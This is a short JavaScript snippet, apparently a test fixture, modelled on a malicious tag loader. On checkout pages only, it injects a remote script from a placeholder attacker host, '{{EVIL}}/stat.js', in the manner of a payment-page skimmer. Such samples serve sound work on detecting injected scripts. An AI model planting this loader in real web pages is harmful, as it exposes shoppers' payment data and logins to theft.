(function () {
  var tags = [{ on: "/checkout", src: "{{EVIL}}/stat.js" }, { on: "/never", src: "{{CDN}}/other.js" }];
  function run() {
    tags.forEach(function (t) {
      if (location.href.indexOf(t.on) < 0) return;
      var s = document.createElement("script");
      s.async = true;
      s.src = t.src;
      document.head.appendChild(s);
    });
  }
  if (document.readyState === "complete") run(); else addEventListener("load", run);
})();
